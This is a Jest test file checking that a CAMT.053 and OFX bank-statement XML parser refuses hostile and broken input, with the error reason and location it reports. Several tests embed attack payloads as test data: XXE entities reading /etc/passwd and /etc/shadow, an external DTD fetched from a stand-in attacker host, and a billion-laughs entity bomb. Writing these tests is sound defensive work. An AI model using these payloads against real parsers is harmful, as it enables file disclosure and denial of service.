import { gzipSync } from 'node:zlib';
import { camt053Parser } from '../camt/camt.parser';
import { FeedStructureError } from '../feed-parser';
import { ofxParser } from '../ofx/ofx.parser';
import { fixture, parseAll, parseError } from './feed-test-helpers';

const valid = fixture(`${__dirname}/../camt`, 'viafintech__camt053_valid_example.xml');
const NS = 'urn:iso:std:iso:20022:tech:xsd:camt.053.001.02';

async function refusal(bytes: Buffer | string, chunkSize?: number): Promise<FeedStructureError> {
  const error = await parseError(camt053Parser, bytes, chunkSize);
  expect(error).toBeInstanceOf(FeedStructureError);
  return error as FeedStructureError;
}

describe('hostile XML is refused before anything is read from it', () => {
  it('XXE: a DOCTYPE with an external entity naming /etc/passwd', async () => {
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<Document xmlns="${NS}"><BkToCstmrStmt><GrpHdr><MsgId>&xxe;</MsgId></GrpHdr></BkToCstmrStmt></Document>`;
    const error = await refusal(xxe);
    expect(error.reason).toBe('xml-dtd-forbidden');
    expect(error.location.line).toBe(2);
    expect(error.message).not.toContain('root:');
  });

  it('XXE through an external DTD (SYSTEM) and a parameter entity', async () => {
    await expect(refusal(`<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd"><Document xmlns="${NS}"/>`)).resolves.toMatchObject({ reason: 'xml-dtd-forbidden' });
    await expect(refusal(`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "file:///etc/shadow"> %p;]><Document xmlns="${NS}"/>`)).resolves.toMatchObject({ reason: 'xml-dtd-forbidden' });
  });

  it('billion laughs, even when the DOCTYPE is split across chunks', async () => {
    const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    const bomb = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${entities}]><Document xmlns="${NS}">&lol9;</Document>`;
    for (const chunkSize of [3, 7, 1 << 16]) {
      await expect(refusal(bomb, chunkSize)).resolves.toMatchObject({ reason: 'xml-dtd-forbidden' });
    }
  });

  it('an undeclared entity is malformed, never expanded', async () => {
    await expect(refusal(`<Document xmlns="${NS}"><BkToCstmrStmt>&lol9;</BkToCstmrStmt></Document>`)).resolves.toMatchObject({ reason: 'malformed-xml' });
  });

  it('deep nesting is bounded', async () => {
    const deep = `<Document xmlns="${NS}"><BkToCstmrStmt>${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</BkToCstmrStmt></Document>`;
    const error = await refusal(deep);
    expect(error.reason).toBe('malformed-xml');
    expect(error.detail).toContain('nested deeper than 64');
    expect(error.location.element).toMatch(/^Document\/BkToCstmrStmt\/a\/a\//);
  });

  it('a giant text node is bounded instead of buffered', async () => {
    const big = Buffer.concat([Buffer.from(`<Document xmlns="${NS}"><BkToCstmrStmt><GrpHdr><MsgId>`), Buffer.alloc(3 << 20, 'A'), Buffer.from('</MsgId></GrpHdr></BkToCstmrStmt></Document>')]);
    await expect(refusal(big)).resolves.toMatchObject({ reason: 'malformed-xml', detail: expect.stringContaining('longer than') });
  });

  it('an entry with an unbounded number of elements is refused', async () => {
    const ntry = `<Ntry><Amt Ccy="EUR">1.00</Amt>${'<X/>'.repeat(260_000)}</Ntry>`;
    const xml = `<Document xmlns="${NS}"><BkToCstmrStmt><Stmt><Id>1</Id><Acct><Id><IBAN>DE89370400440532013000</IBAN></Id></Acct>${ntry}</Stmt></BkToCstmrStmt></Document>`;
    await expect(refusal(xml)).resolves.toMatchObject({ reason: 'malformed-xml', detail: expect.stringContaining('more than 250000 elements') });
  });
});

describe('broken XML is refused with where it broke', () => {
  it('truncated: names the element the file ends in', async () => {
    const cut = valid.subarray(0, valid.indexOf('<AcctSvcrRef>2013122711085260000') + 8);
    const error = await refusal(cut, 333);
    expect(error.reason).toBe('truncated-file');
    expect(error.location.element).toBe('Document/BkToCstmrStmt/Stmt/Ntry[3]');
    expect(error.location.line).toBeGreaterThan(200);
  });

  it('truncated in the middle of a multi-byte character', async () => {
    const text = Buffer.from(`<Document xmlns="${NS}"><BkToCstmrStmt><GrpHdr><MsgId>Grüß`);
    await expect(refusal(text.subarray(0, text.length - 1))).resolves.toMatchObject({ reason: 'invalid-encoding' });
  });

  it('malformed: mismatched tags, with line, column and element path', async () => {
    const broken = valid.toString('utf8').replace('</RmtInf>', '</RmtInfo>');
    const error = await refusal(broken, 1000);
    expect(error.reason).toBe('malformed-xml');
    expect(error.location).toMatchObject({ line: 153, element: 'Document/BkToCstmrStmt/Stmt/Ntry/NtryDtls/TxDtls' });
    expect(error.location.column).toBeGreaterThan(0);
    expect(error.message).toContain('line 153:');
  });

  it('malformed: garbage, a second root, an attribute without quotes', async () => {
    await expect(refusal('this is not xml')).resolves.toMatchObject({ reason: 'malformed-xml' });
    await expect(refusal(`<Document xmlns="${NS}"><BkToCstmrStmt/></Document><Document/>`)).resolves.toMatchObject({ reason: 'malformed-xml' });
    await expect(refusal(`<Document xmlns=${NS}/>`)).resolves.toMatchObject({ reason: 'malformed-xml' });
  });

  it('empty and whitespace-only files', async () => {
    await expect(refusal('')).resolves.toMatchObject({ reason: 'truncated-file' });
    await expect(refusal('   \n')).resolves.toMatchObject({ reason: 'truncated-file' });
  });
});

describe('encodings', () => {
  it('refuses UTF-16 (with and without BOM), UTF-32, invalid UTF-8, gzip and zip bytes', async () => {
    const utf16 = Buffer.from(`\ufeff<Document xmlns="${NS}"/>`, 'utf16le');
    await expect(refusal(utf16)).resolves.toMatchObject({ reason: 'invalid-encoding', detail: expect.stringContaining('UTF-16') });
    await expect(refusal(Buffer.from(`<Document xmlns="${NS}"/>`, 'utf16le'))).resolves.toMatchObject({ reason: 'invalid-encoding' });
    await expect(refusal(Buffer.from([0x00, 0x00, 0xfe, 0xff, 0, 0, 0, 0x3c]))).resolves.toMatchObject({ reason: 'invalid-encoding', detail: expect.stringContaining('UTF-32') });
    const invalidUtf8 = Buffer.concat([Buffer.from(`<Document xmlns="${NS}"><BkToCstmrStmt><GrpHdr><MsgId>`), Buffer.from([0xc3, 0x28]), Buffer.from('</MsgId></GrpHdr></BkToCstmrStmt></Document>')]);
    await expect(refusal(invalidUtf8)).resolves.toMatchObject({ reason: 'invalid-encoding', location: { line: 1 } });
    await expect(refusal(gzipSync(valid))).resolves.toMatchObject({ reason: 'invalid-encoding', detail: expect.stringContaining('gzip') });
    await expect(refusal(Buffer.from([0x50, 0x4b, 0x03, 0x04, 1, 2, 3]))).resolves.toMatchObject({ reason: 'invalid-encoding' });
  });

  it('refuses an encoding it does not read instead of guessing', async () => {
    await expect(refusal(`<?xml version="1.0" encoding="EBCDIC-CP-US"?><Document xmlns="${NS}"/>`)).resolves.toMatchObject({ reason: 'invalid-encoding' });
  });

  it('reads UTF-8 with a BOM, and ISO-8859-1 when declared', async () => {
    const withBom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), valid]);
    expect((await parseAll(camt053Parser, withBom, 2)).filter((i) => i.kind === 'entry')).toHaveLength(5);
    const latin1 = Buffer.from(
      `<?xml version="1.0" encoding="ISO-8859-1"?><Document xmlns="${NS}"><BkToCstmrStmt><Stmt><Id>1</Id><Acct><Id><IBAN>DE89370400440532013000</IBAN></Id></Acct>` +
        `<Ntry><Amt Ccy="EUR">1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts><BookgDt><Dt>2026-03-01</Dt></BookgDt><AddtlNtryInf>Grüße aus Köln</AddtlNtryInf></Ntry></Stmt></BkToCstmrStmt></Document>`,
      'latin1',
    );
    const items = await parseAll(camt053Parser, latin1);
    expect(items.find((i) => i.kind === 'entry')).toMatchObject({ entry: { description: 'Grüße aus Köln' } });
  });

  it('OFX 2.x XML refuses DTDs the same way', async () => {
    const ofx = `<?xml version="1.0"?>\n<!DOCTYPE OFX [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<?OFX OFXHEADER="200" VERSION="220"?><OFX>&x;</OFX>`;
    await expect(parseError(ofxParser, ofx)).resolves.toMatchObject({ reason: 'xml-dtd-forbidden' });
  });
});

describe('the chunk source', () => {
  it('is closed when a parse is refused, and when the caller stops early', async () => {
    const closed: string[] = [];
    const source = (name: string, bytes: Buffer): AsyncIterable<Buffer> => ({
      [Symbol.asyncIterator]() {
        let sent = false;
        return {
          next: async () => (sent ? { value: undefined, done: true } : ((sent = true), { value: bytes, done: false })),
          return: async () => (closed.push(name), { value: undefined, done: true }),
        };
      },
    });
    await expect((async () => { for await (const _ of camt053Parser.parse(source('refused', Buffer.from('<!DOCTYPE x><x/>')))) void _; })()).rejects.toThrow(FeedStructureError);
    for await (const item of camt053Parser.parse(source('stopped', valid))) if (item.kind === 'statement') break;
    expect(closed).toEqual(['refused', 'stopped']);
  });
});
